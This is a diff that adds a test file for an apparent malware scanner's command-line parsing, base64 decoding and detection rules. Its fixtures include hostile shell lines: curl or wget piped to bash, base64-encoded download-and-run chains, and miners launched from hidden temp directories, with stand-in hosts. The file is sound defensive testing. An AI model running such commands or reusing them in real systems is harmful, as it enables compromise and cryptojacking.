@@ -1,0 +1,194 @@
+/**
+ * The shared command-line reading: which programs a line starts (shell and systemd
+ * syntax), script line joining, base64 payload decoding, and the spellings the
+ * command-lines.yaml rules must catch or leave alone.
+ */
+import { describe, expect, it } from 'vitest';
+import {
+  heredocDelimiters,
+  scriptLines,
+  startedByExecValue,
+  startedByShellLine,
+  stripShellComment,
+} from '../../src/checks/command-line.js';
+import { findBase64Payloads } from '../../src/rules/decode.js';
+import { builtinRules } from '../helpers/scan-dir.js';
+import { severityRank } from '../../src/engine/finding.js';
+
+describe('programs a shell line starts', () => {
+  it.each([
+    ['/tmp/.x/run >/dev/null 2>&1', ['/tmp/.x/run']],
+    ['/root/.configrc5/a/upd>/dev/null 2>&1', ['/root/.configrc5/a/upd']],
+    ['nohup /var/tmp/.a/b &', ['/var/tmp/.a/b']],
+    ['bash -c "/dev/shm/x -o pool:3333"', ['/dev/shm/x']],
+    ["sh -c 'cd /tmp/.k && ./kworker'", ['/tmp/.k/kworker']],
+    ['sh /root/.configrc5/a/upd', ['/root/.configrc5/a/upd']],
+    ['/bin/bash /opt/.s/start.sh', ['/bin/bash', '/opt/.s/start.sh']],
+    ['cd /root/.configrc5/a && ./kswapd0 --donate-level 1', ['/root/.configrc5/a/kswapd0']],
+    ['wget -q http://x/y -O /tmp/x; chmod +x /tmp/x; /tmp/x', ['/tmp/x']],
+    ['exec setsid nice -n 19 /usr/local/bin/.m', ['/usr/local/bin/.m']],
+    ['env -i PATH=/bin timeout 10 /tmp/a b', ['/tmp/a']],
+    ['sudo -u nobody /tmp/a', ['/tmp/a']],
+    ['screen -dmS xmr /var/tmp/.x/xmrig', ['/var/tmp/.x/xmrig']],
+    ['echo $(/tmp/.q/print) > /dev/null', ['/tmp/.q/print']],
+    ['x=`/dev/shm/a`', ['/dev/shm/a']],
+    ['. /tmp/.env.sh', ['/tmp/.env.sh']],
+    ['su - root -c "/tmp/r"', ['/tmp/r']],
+    ['python3 /tmp/.p/x.py', ['/tmp/.p/x.py']],
+    ['start-stop-daemon --start --quiet --exec /tmp/.d/daemon -- -x', ['/tmp/.d/daemon']],
+    ['"/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null', ['/root/.acme.sh/acme.sh']],
+  ])('%s', (line, expected) => {
+    expect(startedByShellLine(line)).toEqual(expected);
+  });
+
+  it.each([
+    'test -x /tmp/x || exit 0',
+    '[ -x /tmp/x ] && echo yes',
+    'rm -rf /tmp/.x /var/tmp/.y',
+    'cat /tmp/x > /tmp/y 2>/tmp/err',
+    'echo /tmp/.x/run',
+    'grep -q foo /dev/shm/x',
+    'for f in /tmp/*; do echo "$f"; done',
+    'command -v /tmp/x',
+    'cd / && run-parts --report /etc/cron.hourly',
+    'python3 -c "import os; os.system(\'x\')" /tmp/x',
+  ])('%s starts nothing in /tmp', (line) => {
+    expect(startedByShellLine(line).filter((p) => p.startsWith('/tmp') || p.startsWith('/var/tmp') || p.startsWith('/dev/shm'))).toEqual([]);
+  });
+
+  it('follows the assignments a script made', () => {
+    const vars = new Map<string, string>();
+    expect(startedByShellLine('DAEMON=/dev/shm/.x/miner', vars)).toEqual([]);
+    expect(startedByShellLine('start-stop-daemon --start --exec $DAEMON', vars)).toEqual(['/dev/shm/.x/miner']);
+    expect(startedByShellLine('"${DAEMON}" -B', vars)).toEqual(['/dev/shm/.x/miner']);
+    expect(startedByShellLine('$UNKNOWN/run', vars)).toEqual([]);
+    expect(startedByShellLine('start_daemon -p $PIDFILE $DAEMON $EXTRA_OPTS', vars)).toEqual(['/dev/shm/.x/miner']);
+    expect(startedByShellLine('daemon --user nobody --pidfile=/run/x.pid $DAEMON', vars)).toEqual(['/dev/shm/.x/miner']);
+  });
+
+  it('ignores case patterns and comments', () => {
+    expect(startedByShellLine('/tmp/*) echo tmp ;;')).toEqual([]);
+    expect(startedByShellLine('echo ok # /tmp/x')).toEqual([]);
+    expect(stripShellComment('curl x | sh # see /tmp/.x')).toBe('curl x | sh');
+    expect(stripShellComment("echo '# not a comment' #real")).toBe("echo '# not a comment'");
+    expect(stripShellComment('echo a#b')).toBe('echo a#b');
+  });
+
+  it('stays bounded on hostile input', () => {
+    const started = Date.now();
+    startedByShellLine('$('.repeat(50_000) + 'x');
+    startedByShellLine('sh -c "'.repeat(10_000));
+    startedByShellLine('a '.repeat(500_000));
+    startedByShellLine('\u0000\u00ff\u0001'.repeat(100_000));
+    expect(Date.now() - started).toBeLessThan(5000);
+  });
+});
+
+describe('programs a systemd Exec line starts', () => {
+  it.each([
+    ['/opt/sysetmd/sysetmd -c x', ['/opt/sysetmd/sysetmd']],
+    ['-/usr/sbin/sshd -t', ['/usr/sbin/sshd']],
+    ['@/dev/shm/x fake-name --arg', ['/dev/shm/x']],
+    ['!!/tmp/x', ['/tmp/x']],
+    ['/bin/sh -c "curl -s http://x | sh; /var/tmp/.y/z"', ['/bin/sh', '/var/tmp/.y/z']],
+    ['/usr/bin/env /tmp/.e ; /bin/true', ['/usr/bin/env', '/tmp/.e', '/bin/true']],
+    ['systemd-tmpfiles --create --remove --boot --exclude-prefix=/dev', []],
+    ['/usr/bin/kmod static-nodes --output=/run/tmpfiles.d/static-nodes.conf', ['/usr/bin/kmod']],
+  ])('%s', (value, expected) => {
+    expect(startedByExecValue(value)).toEqual(expected);
+  });
+
+  it('substitutes Environment= variables', () => {
+    expect(startedByExecValue('${DIR}/run -q', new Map([['DIR', '/opt/.hidden']]))).toEqual(['/opt/.hidden/run']);
+  });
+});
+
+describe('script lines', () => {
+  it('joins continuations, skips comments and here-document bodies', () => {
+    const lines = scriptLines(
+      ['#!/bin/sh', '# comment /tmp/x', 'nohup \\', '  /tmp/a &', 'cat > /etc/x <<EOF', '/tmp/not-run', 'EOF', '/tmp/b # trailing'].join('\n'),
+    );
+    expect(lines.map((l) => [l.line, l.text.trim(), l.run !== undefined])).toEqual([
+      [3, 'nohup   /tmp/a &', true],
+      [5, 'cat > /etc/x <<EOF', true],
+      [6, '/tmp/not-run', false],
+      [8, '/tmp/b', true],
+    ]);
+    expect(heredocDelimiters("cat <<-'END' >/x")).toEqual(['END']);
+  });
+});
+
+describe('base64 payloads', () => {
+  const b64 = (s: string) => Buffer.from(s).toString('base64');
+
+  it.each([
+    [`echo ${b64('curl -fsSL http://h/x | bash')} | base64 -d | bash`],
+    [`bash -c "$(echo '${b64('curl -fsSL http://h/x | bash')}' | base64 --decode)"`],
+    [`echo -n "${b64('curl -fsSL http://h/x | bash')}"|base64 -di|sh`],
+    [`base64 -d <<< ${b64('curl -fsSL http://h/x | bash')} | sh`],
+    [`python -c "import base64;exec(base64.b64decode('${b64('curl -fsSL http://h/x | bash')}'))"`],
+  ])('decodes %s', (line) => {
+    expect(findBase64Payloads(line).map((p) => p.decoded)).toEqual(['curl -fsSL http://h/x | bash']);
+  });
+
+  it('leaves binary payloads and ordinary words alone', () => {
+    expect(findBase64Payloads(`echo ${Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0, 0, 1, 2, 0, 0, 0, 0, 3, 4, 5, 6, 0, 0]).toString('base64')} | base64 -d > /tmp/x`)).toEqual([]);
+    expect(findBase64Payloads('echo ThisIsJustALongWordWithoutPadding | tr a b')).toEqual([]);
+  });
+});
+
+describe('command-line rules', () => {
+  const fired = async (line: string) => {
+    const rules = await builtinRules();
+    return rules
+      .matchLines('cron', '/etc/cron.d/x', line)
+      .map((h) => h.rule.id)
+      .sort();
+  };
+
+  it.each([
+    ['curl -fsSL http://h/x.sh | sh', ['command.download-and-run']],
+    ['wget -q -O- http://h/x.sh|bash', ['command.download-and-run']],
+    ['(curl -fsSL http://h/x || wget -q -O- http://h/x) | sh', ['command.download-and-run']],
+    ['curl -s http://h/x | sudo bash -s --', ['command.download-and-run']],
+    ['bash -c "$(curl -fsSL http://h/x)"', ['command.download-and-run']],
+    ['bash <(wget -qO- http://h/x)', ['command.download-and-run']],
+    ['wget http://h/x -O /tmp/x; chmod +x /tmp/x; /tmp/x', ['command.download-and-exec', 'command.download-to-temp']],
+    ['curl -o /var/tmp/k http://h/k && chmod 755 /var/tmp/k', ['command.download-and-exec', 'command.download-to-temp']],
+    ['echo aGVsbG8gd29ybGQgaGVsbG8K | base64 -d | bash', ['command.base64-to-shell']],
+    ['/x/xmrig -c config.json', ['command.miner']],
+    ['./x --donate-level 1', ['command.miner']],
+    ['./x -o stratum+tcp://h:3333', ['command.miner']],
+    ['./x -o pool.example.org:4444 -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge', ['command.miner']],
+  ])('%s', async (line, ids) => {
+    expect(await fired(line)).toEqual(ids);
+  });
+
+  it.each([
+    '17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly',
+    '30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron',
+    '09,39 *     * * *     root   [ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi',
+    "0 */12 * * * root test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e 'sleep int(rand(43200))' && certbot -q renew",
+    'curl -fsSL https://download.docker.com/linux/debian/gpg | gpg --dearmor -o /etc/apt/keyrings/docker.gpg',
+    'wget -qO /usr/local/bin/tool https://example.org/tool',
+    'RANDOM=$(( $(dd if=/dev/urandom bs=2 count=1 2> /dev/null | cksum | cut -d\' \' -f1) % 32767 ))',
+    'git fetch origin && git reset --hard origin/main',
+  ])('leaves %s alone', async (line) => {
+    expect(await fired(line)).toEqual([]);
+  });
+
+  it('matches a started path against the temporary and hidden directory rules, not both', async () => {
+    const rules = await builtinRules();
+    const names = (p: string) => rules.matchName('started-path', p).map((r) => r.id);
+    expect(names('/tmp/.X2xi-unix/.rsync/c/tsm')).toEqual(['command.started-from-temp']);
+    expect(names('/dev/shm/x')).toEqual(['command.started-from-temp']);
+    expect(names('/root/.configrc5/a/upd')).toEqual(['command.started-from-hidden']);
+    expect(names('/usr/bin/.sshd')).toEqual(['command.started-from-hidden']);
+    for (const fine of ['/usr/sbin/cron', '/root/.acme.sh/acme.sh', '/home/u/.local/bin/tool', '/tmpfoo/x', '/usr/lib/tmp/x']) {
+      expect(names(fine), fine).toEqual([]);
+    }
+    for (const rule of rules.all().filter((r) => r.id.startsWith('command.started-'))) {
+      expect(severityRank(rule.severity)).toBe(severityRank('high'));
+    }
+  });
+});
